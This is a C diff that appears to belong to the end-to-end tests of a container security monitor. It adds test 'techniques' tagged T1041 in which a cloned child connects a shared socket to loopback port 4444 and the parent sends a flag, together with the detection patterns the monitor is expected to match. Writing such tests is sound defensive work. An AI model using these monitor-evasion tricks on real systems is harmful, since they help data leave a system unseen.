@@ -4,9 +4,12 @@
 #include <linux/if_ether.h>
 #include <linux/netlink.h>
 #include <netinet/in.h>
+#include <sched.h>
+#include <signal.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/socket.h>
+#include <sys/wait.h>
 #include <unistd.h>
 
 #include "tests/e2e/escapes/techniques/technique.h"
@@ -125,7 +128,55 @@ static int fast_open(int victim)
 		sendto(fd, FLAG, strlen(FLAG), MSG_FASTOPEN, (struct sockaddr *)&a, sizeof(a)));
 }
 
+/* Connects a socket that another process has too. */
+static int connect_shared(void *socket)
+{
+	struct sockaddr_in a = {.sin_family = AF_INET,
+				.sin_port = htons(PORT),
+				.sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
+
+	return FAILED(connect(*(const int *)socket, (struct sockaddr *)&a, sizeof(a)));
+}
+
+/*
+ * A child connects a socket of its parent's, and the parent sends. flags: of clone(2), what else they
+ * share.
+ */
+static int send_by_child(int flags)
+{
+	static _Alignas(16) char stack[16384];
+	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), status = 0;
+	pid_t pid;
+
+	if (fd < 0)
+		return errno;
+	pid = clone(connect_shared, stack + sizeof(stack), flags | SIGCHLD, &fd);
+	if (pid < 0 || waitpid(pid, &status, 0) < 0)
+		return errno;
+	if (status_of(status) != 0)
+		return status_of(status);
+	return FAILED(write(fd, FLAG, strlen(FLAG)));
+}
+
+static int send_by_fork(int victim)
+{
+	(void)victim;
+	return send_by_child(0);
+}
+
+static int send_by_shared_table(int victim)
+{
+	(void)victim;
+	return send_by_child(CLONE_FILES);
+}
+
 const struct technique socket_evasions[] = {
+	{"shared_socket", "T1041", "has a child connect a socket, and sends by it",
+	 .seen = "connect 127.0.0.1:4444", .run = send_by_fork, .probe = flag_received},
+	{"shared_descriptors", "T1041",
+	 "has a child that shares the table of descriptors connect a socket, and sends by it",
+	 .seen = "connect 127.0.0.1:4444", .stopped = "connect 127.0.0.1:4444|^clone ",
+	 .run = send_by_shared_table, .probe = flag_received},
 	{"socket_link", "T1610",
 	 "connects to the container engine's socket through a symbolic link of a known name",
 	 .seen = "peer " ENGINE_SOCKET, .hook = "unix_stream_connect", .run = connect_by_link,
